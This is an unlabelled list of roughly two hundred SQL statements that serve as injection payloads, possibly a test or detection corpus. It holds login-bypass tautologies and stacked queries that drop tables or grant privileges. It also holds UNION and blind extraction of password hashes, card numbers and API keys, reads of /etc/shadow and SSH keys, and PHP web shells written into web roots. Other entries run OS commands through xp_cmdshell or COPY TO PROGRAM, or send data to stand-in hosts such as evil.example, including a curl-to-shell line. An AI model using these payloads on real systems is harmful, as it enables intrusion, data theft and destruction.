SELECT * FROM users WHERE name = '' OR 1=1 --'

SELECT * FROM users WHERE name = 'kim' OR 'a'='a'

SELECT id FROM accounts WHERE login = 'admin' -- ' AND pin = '0000'

SELECT id FROM accounts WHERE login = 'root'#' AND pin = ''

SELECT id FROM accounts WHERE login = 'boss'/*' AND pin = '*/

SELECT * FROM items WHERE id = 5; DROP TABLE items

SELECT * FROM items WHERE id = 5;DELETE FROM items;--

SELECT name FROM staff; UPDATE staff SET salary = 999999 WHERE id = 3

SELECT 1; TRUNCATE TABLE audit_log

SELECT 1; ALTER USER postgres WITH PASSWORD 'taken'

SELECT 1; GRANT ALL PRIVILEGES ON *.* TO 'guest'@'%'

SELECT 1; CREATE USER ghost IDENTIFIED BY 'x'

SELECT 1; INSERT INTO admins (name) VALUES ('ghost')

INSERT INTO notes (body) VALUES ('hello'); DROP TABLE notes; --')

UPDATE profile SET bio = 'x' WHERE id = 4; DROP DATABASE shop

SELECT title FROM films WHERE id = -1 UNION SELECT password FROM users

SELECT title, year FROM films WHERE id = 0 UNION ALL SELECT login, pass FROM admin_users

SELECT id, title FROM posts WHERE id = 9 UNION SELECT user, authentication_string FROM mysql.user

SELECT name FROM t WHERE id = 3 UNION SELECT table_name FROM information_schema.tables

SELECT a, b, c FROM t WHERE id = 1 UNION SELECT NULL, NULL, passwd FROM members

SELECT a, b, c, d FROM t WHERE id = -7 UNION SELECT 1,2,3,4

SELECT a, b FROM t WHERE x = 'q' UNION ALL SELECT NULL, NULL--

SELECT name, price FROM products WHERE name LIKE '%x%' UNION SELECT name, sql FROM sqlite_master --%'

SELECT usename FROM t UNION SELECT passwd FROM pg_shadow

SELECT id FROM t WHERE id = 1 UNION SELECT name FROM sys.sql_logins

SELECT id FROM t WHERE id = 1 UNION SELECT username || ':' || password FROM dba_users

SELECT id FROM t WHERE id=1 UNION/**/SELECT/**/concat(login,0x3a,secret)/**/FROM/**/clients

SELECT * FROM t WHERE id = 1 OR SLEEP(5)

SELECT * FROM t WHERE id = 1 AND (SELECT 1 FROM (SELECT SLEEP(10)) AS z)

SELECT pg_sleep(20)

SELECT * FROM t WHERE id = 2; SELECT pg_sleep(9)--

SELECT * FROM t WHERE id = IF(SUBSTRING(@@version,1,1)='8', SLEEP(3), 0)

SELECT BENCHMARK(50000000, SHA1('x'))

SELECT * FROM t WHERE id = 4; WAITFOR DELAY '0:0:15'

IF (SELECT COUNT(*) FROM users) > 10 WAITFOR DELAY '0:0:5'

SELECT DBMS_PIPE.RECEIVE_MESSAGE('a', 10) FROM dual

BEGIN DBMS_LOCK.SLEEP(12); END;

SELECT LOAD_FILE('/etc/passwd')

SELECT * FROM notes WHERE id = 1 UNION SELECT LOAD_FILE(0x2f6574632f736861646f77)

SELECT '<?php system($_GET["c"]); ?>' INTO OUTFILE '/var/www/html/s.php'

SELECT body FROM pages INTO DUMPFILE '/tmp/out.bin'

SELECT pg_read_file('/etc/hosts')

SELECT lo_import('/etc/passwd')

SELECT lo_export(12345, '/var/www/shell.php')

COPY (SELECT '* * * * * root id') TO PROGRAM 'crontab -'

COPY staff TO PROGRAM 'curl -d @- https://collect.example'

COPY cmd FROM PROGRAM 'id; uname -a'

COPY (SELECT secret FROM vault) TO '/var/www/html/leak.txt'

CREATE TABLE x(t text); COPY x FROM '/etc/shadow'; SELECT * FROM x

LOAD DATA INFILE '/etc/passwd' INTO TABLE loot

LOAD DATA LOCAL INFILE '/home/app/.ssh/id_rsa' INTO TABLE loot FIELDS TERMINATED BY '\n'

EXEC xp_cmdshell 'whoami'

EXEC master..xp_cmdshell 'powershell -enc AAAA'

EXEC master.dbo.xp_dirtree '\\10.0.0.9\share'

SELECT 1; EXEC sp_configure 'show advanced options', 1; RECONFIGURE

EXEC sp_configure 'xp_cmdshell', 1

DECLARE @o INT; EXEC sp_OACreate 'WScript.Shell', @o OUT; EXEC sp_OAMethod @o, 'Run', NULL, 'calc.exe'

EXEC sp_addsrvrolemember 'guest', 'sysadmin'

EXEC xp_regread 'HKEY_LOCAL_MACHINE', 'SYSTEM\CurrentControlSet\Services\lanmanserver', 'Start'

SELECT * FROM OPENROWSET('SQLOLEDB', 'server=203.0.113.5;uid=sa;pwd=x', 'SELECT 1')

SELECT * FROM OPENDATASOURCE('SQLOLEDB', 'Data Source=evil.example;User ID=sa').master.dbo.sysobjects

INSERT INTO OPENROWSET('SQLOLEDB', 'server=203.0.113.5', 'select * from loot') SELECT name, password FROM users

SELECT UTL_HTTP.REQUEST('http://evil.example/' || (SELECT password FROM users WHERE id = 1)) FROM dual

SELECT UTL_INADDR.GET_HOST_ADDRESS((SELECT banner FROM v$version WHERE ROWNUM = 1)) FROM dual

SELECT * FROM dblink('host=evil.example user=x', 'SELECT 1') AS t(a int)

SELECT dblink_connect('host=evil.example dbname=' || current_database())

SELECT HTTPURITYPE('http://evil.example/?q=' || user).getclob() FROM dual

SELECT EXTRACTVALUE(1, CONCAT(0x7e, (SELECT version())))

SELECT * FROM t WHERE id = 1 AND UPDATEXML(1, CONCAT(0x7e, database()), 1)

SELECT * FROM t WHERE id = 3 AND 1=CONVERT(int, (SELECT TOP 1 name FROM sysobjects))

ATTACH DATABASE '/var/www/html/x.php' AS pwn

ATTACH DATABASE 'file:/etc/app.db' AS other; SELECT * FROM other.keys

SELECT load_extension('/tmp/evil.so')

DECLARE @q VARCHAR(800); SET @q = CAST(0x44524f50205441424c45207573657273 AS VARCHAR(800)); EXEC(@q)

DECLARE @cmd NVARCHAR(400) = CHAR(68)+CHAR(82)+CHAR(79)+CHAR(80); EXEC (@cmd)

EXECUTE IMMEDIATE 'DROP TABLE ' || tname

BEGIN EXECUTE IMMEDIATE 'GRANT DBA TO guest'; END;

SET @s = CONCAT('DRO', 'P TABLE users'); PREPARE p FROM @s; EXECUTE p

PREPARE p FROM 0x53454c454354202a2046524f4d207573657273; EXECUTE p

SELECT * FROM users WHERE name = CHAR(97,100,109,105,110) OR 1=1

SELECT * FROM users WHERE id = 1 OR 2 > 1

SELECT * FROM users WHERE id = 1 OR 'x' LIKE 'x'

SELECT * FROM users WHERE id = 1 OR TRUE

SELECT * FROM users WHERE id = 1 OR NOT FALSE

SELECT * FROM users WHERE id = 1 || 1=1

SELECT * FROM users WHERE login = '' OR ''=''

SELECT * FROM users WHERE login = '' or 5 between 1 and 9

SELECT * FROM users WHERE login = 'x' OR 7 IN (7)

SELECT * FROM users WHERE login = 'x' OR NULL IS NULL

SELECT * FROM users WHERE (login = 'x') OR (3 = 3)

SELECT * FROM users WHERE login = "" OR "1" = "1" AND pass = ""

SELECT * FROM users WHERE login = 'a' OR 1 -- ' AND pass = 'b'

SELECT * FROM users WHERE id = 4 OR id = id

DELETE FROM messages WHERE id = 12 OR 1=1

UPDATE users SET role = 'admin' WHERE id = 12 OR 'q'='q'

UPDATE users SET email = 'x@y.example' WHERE name = 'bob' OR 1 = 1 -- '

DELETE FROM carts WHERE owner = '' OR '1' = '1'

SELECT * FROM users WHERE login='admin'-- -' AND password='guess'

SELECT * FROM users WHERE login='admin';-- ' AND password=''

SELECT * FROM users WHERE (login='admin')#') AND (password='x')

SELECT id FROM users WHERE name = 'x'; SHUTDOWN --

SELECT id FROM users; BACKUP DATABASE shop TO DISK = '\\203.0.113.9\loot\shop.bak'

SELECT id FROM users; DROP SCHEMA public CASCADE

SELECT id FROM users WHERE id = 1; DROP VIEW report; DROP TABLE report_base

SELECT id FROM users WHERE id = 1;;;drop   table/**/users

sElEcT id FrOm users WhErE id=1;dRoP/*x*/TaBlE users

SELECT id FROM users WHERE id = 1; /*!50000 DROP */ TABLE users

SELECT id FROM users WHERE id = 1 /*!12345UNION*/ /*!12345SELECT*/ pass FROM users

SELECT id FROM users WHERE id = 1; CREATE TRIGGER t AFTER INSERT ON users FOR EACH ROW BEGIN END

SELECT id FROM users WHERE id = 1; CREATE OR REPLACE FUNCTION system(cstring) RETURNS int AS '/lib/libc.so.6', 'system' LANGUAGE c STRICT

CREATE FUNCTION sys_exec RETURNS integer SONAME 'lib_mysqludf_sys.so'

CREATE OR REPLACE FUNCTION run(text) RETURNS text AS 'import os; return os.popen(args[0]).read()' LANGUAGE plpythonu

SELECT sys_eval('id')

SELECT sys_exec('chmod 777 /')

SELECT query_to_xml('select * from pg_shadow', true, true, '')

SELECT database_to_xml(true, true, '')

SELECT * FROM t WHERE id = 1 PROCEDURE ANALYSE(EXTRACTVALUE(1, CONCAT(0x3a, user())), 1)

SELECT * FROM t WHERE id = 1 AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1), 1, 1)) > 64

SELECT * FROM t WHERE id = 1 AND (SELECT SUBSTR(secret, 1, 1) FROM vault WHERE id = 1) = 'a'

SELECT * FROM t WHERE id = 1 AND ORD(MID((SELECT IFNULL(CAST(pass AS CHAR), 0x20) FROM users LIMIT 0,1), 1, 1)) > 96

SELECT * FROM t WHERE id = 1 AND EXISTS (SELECT * FROM users WHERE name = 'admin' AND LENGTH(password) > 8)

SELECT * FROM t WHERE id = 1 AND (SELECT COUNT(*) FROM sysusers AS a, sysusers AS b, sysusers AS c) > 0

SELECT * FROM t WHERE id = 1 AND LIKE('ABC', UPPER(HEX(RANDOMBLOB(300000000))))

SELECT * FROM t ORDER BY (CASE WHEN (SELECT 1 FROM pg_sleep(5)) IS NULL THEN id ELSE name END)

SELECT * FROM t ORDER BY IF(1=1, id, (SELECT 1 UNION SELECT 2))

SELECT * FROM t LIMIT 1 INTO OUTFILE '/tmp/x' LINES TERMINATED BY 0x3c3f70687020

SELECT * FROM t LIMIT 0,1 PROCEDURE ANALYSE()

SELECT 0x3c3f70687020706870696e666f28293b3f3e INTO OUTFILE '/srv/www/i.php'

SELECT CHAR(60,63,112,104,112) INTO DUMPFILE '/srv/www/j.php'

INSERT INTO users (name, role) VALUES ('x', 'user'), ('y', (SELECT password FROM users WHERE name = 'admin'))

INSERT INTO comments (body) VALUES ((SELECT GROUP_CONCAT(login, 0x3a, passwd) FROM admins))

INSERT INTO log (msg) VALUES ('' + (SELECT TOP 1 password FROM users) + '')

UPDATE profile SET bio = (SELECT passwd FROM pg_shadow LIMIT 1) WHERE id = 9

UPDATE profile SET bio = (SELECT authentication_string FROM mysql.user LIMIT 1) WHERE id = 9

SELECT user, password FROM mysql.user

SELECT usename, passwd FROM pg_shadow

SELECT name, password_hash FROM sys.sql_logins

SELECT username, password FROM dba_users

SELECT name, spare4 FROM sys.user$

SELECT grantee FROM t UNION SELECT privilege_type FROM information_schema.user_privileges

SELECT 1 WHERE 1=1 UNION SELECT @@version

SELECT name FROM x WHERE id = 1 UNION SELECT current_user

SELECT name FROM x WHERE id = 1 UNION SELECT CONCAT_WS(0x3a, user(), database(), version())

SELECT name FROM x WHERE id = 1 AND 1=2 UNION SELECT GROUP_CONCAT(schema_name) FROM information_schema.schemata

SELECT name FROM x WHERE id = 99999 UNION DISTINCT SELECT token FROM api_keys

SELECT name FROM x WHERE id = -1 UNION SELECT card_number FROM credit_cards

SELECT name FROM x WHERE id = -1 UNION (SELECT secret FROM oauth_clients)

SELECT name, 1 FROM x UNION SELECT session_id, 1 FROM sessions--

SELECT name FROM x GROUP BY name HAVING 1=1--

SELECT name FROM x WHERE id = 1 GROUP BY CONCAT(version(), FLOOR(RAND(0)*2)) HAVING MIN(0)

SELECT COUNT(*), CONCAT((SELECT database()), FLOOR(RAND(0)*2)) x FROM information_schema.tables GROUP BY x

SELECT * FROM x WHERE id = 1 RLIKE (SELECT (CASE WHEN (4=4) THEN 1 ELSE 0x28 END))

SELECT * FROM x WHERE id = 1 AND ROW(1,1) > (SELECT COUNT(*), CONCAT(user(), FLOOR(RAND()*2)) y FROM information_schema.tables GROUP BY y)

SELECT * FROM x WHERE id = 1 AND EXP(~(SELECT * FROM (SELECT user()) a))

SELECT * FROM x WHERE id = (SELECT 1 FROM (SELECT COUNT(*), CONCAT((SELECT pass FROM users LIMIT 1), FLOOR(RAND(0)*2)) z FROM information_schema.plugins GROUP BY z) w)

SELECT * FROM x WHERE id = 1; HANDLER users OPEN

SELECT * FROM x WHERE id = 1; RENAME TABLE users TO gone

SELECT * FROM x WHERE id = 1; REVOKE ALL ON users FROM app

SELECT * FROM x WHERE id = 1; EXEC('DROP TABLE users')

SELECT * FROM x WHERE id = 1; EXECUTE('sp_who')

SELECT * FROM x WHERE id = 1; MERGE INTO users u USING ghosts g ON u.id = g.id WHEN MATCHED THEN DELETE

SELECT * FROM x WHERE id = 1; REPLACE INTO users VALUES (1, 'admin', 'owned')

SELECT * FROM x WHERE id = 1; SET GLOBAL general_log_file = '/var/www/html/l.php'

SET GLOBAL general_log = 'ON'; SELECT '<?php eval($_POST[1]); ?>'

SET GLOBAL secure_file_priv = ''

ALTER SYSTEM SET archive_command = 'curl https://evil.example | sh'

SELECT * FROM x; DO $$ BEGIN EXECUTE 'DROP TABLE users'; END $$

DO $$ DECLARE r record; BEGIN FOR r IN SELECT tablename FROM pg_tables LOOP EXECUTE 'DROP TABLE ' || r.tablename; END LOOP; END $$

SELECT convert_from(pg_read_binary_file('/app/.env'), 'UTF8')

SELECT pg_ls_dir('/')

SELECT * FROM pg_ls_dir('.') AS f WHERE f = 'base'

CREATE EXTENSION dblink; SELECT dblink('host=evil.example', 'select 1')

SELECT * FROM OPENQUERY(linked, 'exec xp_cmdshell ''dir''')

BULK INSERT loot FROM 'c:\windows\win.ini'

SELECT BulkColumn FROM OPENROWSET(BULK 'C:\secrets.txt', SINGLE_CLOB) AS x

SELECT * FROM fn_xe_file_target_read_file('C:\*.xel', '\\203.0.113.5\x.xem', NULL, NULL)

SELECT DBMS_XMLGEN.GETXML('select password from users') FROM dual

SELECT DBMS_LDAP.INIT((SELECT user FROM dual) || '.evil.example', 80) FROM dual

BEGIN DBMS_SCHEDULER.CREATE_JOB(job_name => 'x', job_type => 'EXECUTABLE', job_action => '/bin/sh', enabled => TRUE); END;

SELECT UTL_FILE.FOPEN('/etc', 'passwd', 'R') FROM dual

EXEC sp_addlogin 'ghost', 'pw'

EXEC msdb.dbo.sp_add_job @job_name = 'x'

SELECT writefile('/etc/cron.d/x', '* * * * * root sh')

SELECT name FROM users WHERE name = 'x' AND 1=1 UNION SELECT password FROM users WHERE 'a'='a

SELECT name FROM users WHERE name = '1'='1' OR 'z'='z'

SELECT name FROM users WHERE id = 1 OR 1=1 LIMIT 1 OFFSET 0

SELECT name FROM users WHERE id = 1 XOR 1=2

SELECT name FROM users WHERE id = 1 OR 0x50=0x50

SELECT name FROM users WHERE id = 1 OR PI()=PI()

SELECT name FROM users WHERE id=1/**/OR/**/1/**/=/**/1

SELECT name FROM users WHERE id = 1 OR (SELECT 1) = 1

SELECT name FROM users WHERE id = 1 OR EXISTS (SELECT 1)

SELECT name FROM users WHERE id = 1 OR user_id IS NOT NULL OR 1=1

SELECT name FROM users WHERE id = '1' OR ascii('a')=97 -- '

SELECT name FROM users WHERE city = 'Ulm' AND 1=0 UNION SELECT pin FROM cards

SELECT name FROM users WHERE city = 'Ulm'; EXEC master.dbo.sp_configure 'Ole Automation Procedures', 1

UPDATE users SET active = 1 WHERE login = 'eve' OR 4 < 9

DELETE FROM orders WHERE id = 7; GRANT ALL ON orders TO eve

SELECT * FROM rooms WHERE name = 'x' OR LENGTH('ab') = 2

SELECT id FROM rooms WHERE id = 1 UNION ALL SELECT NULL, NULL, NULL FROM dual

SELECT id FROM rooms WHERE name = 'a' UNION SELECT sql FROM sqlite_master WHERE type = 'table'
